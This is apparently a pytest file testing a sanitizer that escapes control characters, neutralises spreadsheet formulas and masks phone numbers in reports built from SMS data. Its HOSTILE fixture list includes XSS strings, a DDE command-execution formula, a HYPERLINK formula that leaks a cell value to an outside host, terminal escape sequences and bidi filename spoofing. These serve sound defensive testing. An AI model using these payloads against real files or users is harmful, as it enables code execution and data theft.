"""Texts of strangers: no control characters, no formulas, masked numbers."""

from __future__ import annotations

import io
import re
import unicodedata

import pandas as pd
import pytest
from rich.console import Console
from rich.text import Text

from prefect_mymsp.reports.sanitize import (
    escape_control_characters,
    escape_formula,
    escape_formulas,
    mask_frame,
)

#: Texts, names and columns as an attacker would write them.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=\"alert('x')\">",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+46701740605+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "ok;=1+1",
    'ok\t"=1+1"',
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "\x9b31m",
    "invoice\u202egnp.exe",
    "\u2066hidden\u2069",
    "zero\u200bwidth\ufeff",
    "a\x08\x08\x08b\x7f",
    "line\u2028separator",
    "{{ 7 * 7 }} {% raw %} ${7*7}",
    "Åsa & Öberg <asa@example.com>",
    "emoji \U0001f44d\U0001f3fd \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_control_characters_are_removed_from_hostile_texts(text: str) -> None:
    shown = escape_control_characters(text)
    controls = [
        character
        for character in shown
        if unicodedata.category(character) in {"Cc", "Cf", "Zl", "Zp"} and character not in "\t\n"
    ]
    assert set(controls) <= {"\u200d"}  # joins emoji
    if text.isprintable():
        assert shown == text
    assert escape_control_characters(shown) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred", r"\x1b[31mred"),
        ("a\u202eb", r"a\u202eb"),
        ("\x7f\x9b", r"\x7f\x9b"),
        ("\U000e0041", r"\U000e0041"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("half \ud800 a pair", r"half \ud800 a pair"),
    ],
)
def test_control_characters_are_written_out(text: str, shown: str) -> None:
    assert escape_control_characters(text) == shown


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_with_a_formula(text: str) -> None:
    safe = escape_formula(escape_control_characters(text))
    for cell in re.split(r"[;\t\r\n]", safe):
        assert not re.match(r"[\s\"]*[=+\-@\uff0b\uff0d\uff1d\uff20]", cell)
    assert safe.replace("'", "") == escape_control_characters(text).replace("'", "")


@pytest.mark.parametrize(
    "text", ["+46701740605", "46701740605", "+46 70 174 06 05", "-5", "-5.25", "12", "a=1", "x-y", ""]
)
def test_numbers_and_plain_texts_stay_unchanged(text: str) -> None:
    assert escape_formula(escape_control_characters(text)) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_a_frame_is_escaped_like_its_texts(text: str) -> None:
    frame = pd.DataFrame(
        {"text": pd.Series([text, None, "ok"], dtype="string"), "count": pd.Series([1, 2, 3], dtype="Int64")}
    )
    safe = escape_formulas(frame)
    assert safe["text"].fillna("none").tolist() == [escape_formula(escape_control_characters(text)), "none", "ok"]
    assert safe.dtypes.equals(frame.dtypes)
    assert frame["text"].iloc[0] == text


@pytest.mark.parametrize("text", HOSTILE)
def test_a_terminal_gets_no_escape_sequences(text: str) -> None:
    stream = io.StringIO()
    Console(file=stream, force_terminal=True, width=200).print(Text(escape_control_characters(text)))
    written = re.sub(r"\x1b\[0?m", "", stream.getvalue())
    assert "\x1b" not in written
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", written)


def test_a_masked_frame_keeps_its_columns_and_dtypes() -> None:
    frame = pd.DataFrame(
        {
            "recipient": pd.Series(["46701740605", None], dtype="string"),
            "message_id": pd.Series(["12556789", None], dtype="string"),
            "sender": pd.Series(["070-174 06 05", "Telia"], dtype="string"),
            "text": pd.Series(["Ring 0701740612", ""], dtype="string"),
            "error": pd.Series(["no such number: +46 70 174 06 12", None], dtype="string"),
        }
    )
    safe = mask_frame(frame)
    assert safe["recipient"].fillna("none").tolist() == ["46•••••••05", "none"]
    assert safe["sender"].tolist() == ["07•-••• •• 05", "Telia"]
    assert safe["error"].fillna("none").tolist() == ["no such number: +46 •• ••• •• 12", "none"]
    assert safe["text"].tolist() == ["Ring 07••••••12", ""]
    assert safe["message_id"].equals(frame["message_id"])
    assert safe.dtypes.equals(frame.dtypes)
    assert mask_frame(frame.head(0)).dtypes.equals(frame.dtypes)
